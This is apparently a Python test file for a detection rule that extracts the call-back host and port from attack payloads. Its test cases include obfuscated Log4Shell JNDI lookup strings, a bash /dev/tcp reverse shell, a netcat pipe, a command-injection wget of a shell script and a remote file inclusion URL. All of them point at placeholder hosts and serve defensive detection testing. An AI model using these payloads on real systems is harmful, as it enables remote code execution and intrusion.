"""Hosts that a payload names for a call-back."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.detect.rules.callbacks import MAX_HOSTS, named_hosts


@pytest.mark.parametrize(
    ("payload", "hosts"),
    [
        ("${jndi:ldap://h.example:1389/a}", [("h.example", 1389)]),
        ("${${lower:j}ndi:rmi://[2001:db8::1]:1099/a}", [("2001:db8::1", 1099)]),
        ("$%7Bjndi%3Aldap%3A%2F%2Fh.example%2Fa%7D", [("h.example", None)]),
        ("${jndi:dns://${hostName}.h.example/a}", [("h.example", None)]),
        ("${jndi:ldap://127.0.0.1#h.example:1389/a}", [("127.0.0.1", None), ("h.example", 1389)]),
        ("${jndi:ldap://user:secret@h.example:1389/a}", [("h.example", 1389)]),
        ("page=http://192.0.2.7:8080/x.txt?", [("192.0.2.7", 8080)]),
        (";wget http://192.0.2.7/x.sh", [("192.0.2.7", None)]),
        ("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", [("192.0.2.7", 4444)]),
        ("|nc 192.0.2.7 4444", [("192.0.2.7", 4444)]),
        ("`ping -c 3 h.example`", [("h.example", None)]),
        ("no host at all", []),
        ("http://x:99999999/", []),
    ],
)
def test_the_host_and_port_of_a_payload_are_named(payload, hosts):
    assert list(named_hosts(payload)) == hosts


@given(st.text(max_size=300))
def test_any_text_is_answered(text):
    assert all(host and (port is None or 0 < port < 65536) for host, port in named_hosts(text))


def test_the_number_of_hosts_is_bounded():
    assert len(named_hosts(" ".join(f"http://h{n}.example/" for n in range(500)))) == MAX_HOSTS
